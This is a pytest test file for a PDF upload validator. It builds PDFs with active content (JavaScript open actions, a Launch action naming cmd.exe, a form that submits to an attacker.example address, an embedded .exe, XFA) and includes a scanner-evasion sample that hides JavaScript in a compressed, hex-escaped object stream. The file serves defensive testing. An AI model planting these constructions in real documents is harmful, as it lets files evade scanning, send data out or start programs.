"""A PDF that could run code, send data or carry other files is refused with a reason; plain ones pass."""

import io
import zlib

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from installops.errors import DomainError
from jobs.uploads import clean_upload
from tests.jobs.files import pdf_bytes, upload


def _writer() -> PdfWriter:
    return PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes("Permit application"))))


def _indirect(writer: PdfWriter, value):
    # pypdf has no public "add an object"; the same as writing it under the catalog and taking its reference.
    return writer._add_object(value)  # noqa: SLF001


def _bytes(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _action(kind: str, **extra) -> DictionaryObject:
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in extra.items():
        action[NameObject(f"/{key}")] = value
    return action


def _javascript() -> DictionaryObject:
    return _action("/JavaScript", JS=TextStringObject("app.alert('hi')"))


def open_action_javascript() -> bytes:
    writer = _writer()
    writer.root_object[NameObject("/OpenAction")] = _indirect(writer, _javascript())
    return _bytes(writer)


def document_level_javascript() -> bytes:
    writer = _writer()
    names = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("x"), _indirect(writer, _javascript())])}
    )
    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): names})
    return _bytes(writer)


def page_additional_action() -> bytes:
    writer = _writer()
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): _javascript()})
    return _bytes(writer)


def launch_action() -> bytes:
    writer = _writer()
    writer.root_object[NameObject("/OpenAction")] = _action("/Launch", F=TextStringObject("cmd.exe"))
    return _bytes(writer)


def _annotation(writer: PdfWriter, annotation: DictionaryObject) -> bytes:
    annotation.update(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Rect"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(50), NumberObject(50)]),
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([_indirect(writer, annotation)])
    return _bytes(writer)


def submit_form_link() -> bytes:
    action = _action("/SubmitForm", F=TextStringObject("https://attacker.example/collect"))
    return _annotation(
        _writer(), DictionaryObject({NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): action})
    )


def rich_media_annotation() -> bytes:
    return _annotation(_writer(), DictionaryObject({NameObject("/Subtype"): NameObject("/RichMedia")}))


def embedded_file() -> bytes:
    writer = _writer()
    writer.add_attachment("invoice.exe", b"MZ not really a program")
    return _bytes(writer)


def xfa_form() -> bytes:
    writer = _writer()
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): _indirect(writer, DecodedStreamObject())}
    )
    return _bytes(writer)


def javascript_in_compressed_object_stream() -> bytes:
    """The open action lives in a Flate-compressed object stream, its names hex-escaped: the raw bytes
    of the file never spell "JavaScript" or "JS"."""
    hidden = b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"
    header = b"5 0 "
    objstm = zlib.compress(header + hidden)
    parts = [b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"]
    offsets = {}

    def add(number: int, body: bytes) -> None:
        offsets[number] = sum(len(p) for p in parts)
        parts.append(b"%d 0 obj\n" % number + body + b"\nendobj\n")

    add(1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>")
    add(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    add(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>")
    add(
        4,
        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (len(header), len(objstm))
        + objstm
        + b"\nendstream",
    )
    xref_offset = sum(len(p) for p in parts)
    rows = [b"\x00" + b"\x00\x00\x00\x00" + b"\xff\xff"]
    for number in (1, 2, 3, 4):
        rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00")
    rows.append(b"\x02" + (4).to_bytes(4, "big") + b"\x00\x00")  # object 5: in stream 4, index 0
    rows.append(b"\x01" + xref_offset.to_bytes(4, "big") + b"\x00\x00")
    data = b"".join(rows)
    parts.append(
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(data)
        + data
        + b"\nendstream\nendobj\n"
    )
    parts.append(b"startxref\n%d\n%%%%EOF\n" % xref_offset)
    content = b"".join(parts)
    assert b"JavaScript" not in content
    assert b"/JS" not in content
    return content


ACTIVE = {
    "open action running JavaScript": (open_action_javascript, "JavaScript"),
    "document-level JavaScript": (document_level_javascript, "JavaScript"),
    "page additional action": (page_additional_action, "JavaScript"),
    "launch": (launch_action, "starts a program"),
    "submit form": (submit_form_link, "sends data to a server"),
    "rich media": (rich_media_annotation, "embedded media"),
    "embedded file": (embedded_file, "attached files"),
    "XFA form": (xfa_form, "XFA form"),
    "object stream": (javascript_in_compressed_object_stream, "JavaScript"),
}


@pytest.mark.parametrize(("make", "words"), ACTIVE.values(), ids=ACTIVE.keys())
def test_a_pdf_with_active_content_is_refused_naming_what_it_holds(make, words):
    with pytest.raises(DomainError) as refused:
        clean_upload(upload(make(), "permit.pdf"))
    assert refused.value.field == "file"
    assert words in refused.value.message
    assert "Save as PDF" in refused.value.message


def test_a_plain_pdf_with_links_and_a_view_setting_is_accepted():
    writer = _writer()
    # What ordinary documents carry: open on page 1 fitted, and a web link.
    writer.root_object[NameObject("/OpenAction")] = ArrayObject(
        [writer.pages[0].indirect_reference, NameObject("/Fit")]
    )
    link = _action("/URI", URI=TextStringObject("https://www.energy.ca.gov/"))
    content = _annotation(
        writer, DictionaryObject({NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): link})
    )

    clean = clean_upload(upload(content, "spec sheet.pdf"))

    assert clean.content == content  # kept byte for byte
    assert clean.page_count == 1


def test_the_object_stream_pdf_is_readable_so_the_refusal_is_about_its_content():
    reader = PdfReader(io.BytesIO(javascript_in_compressed_object_stream()))
    assert len(reader.pages) == 1
    assert reader.trailer["/Root"]["/OpenAction"]["/S"] == "/JavaScript"
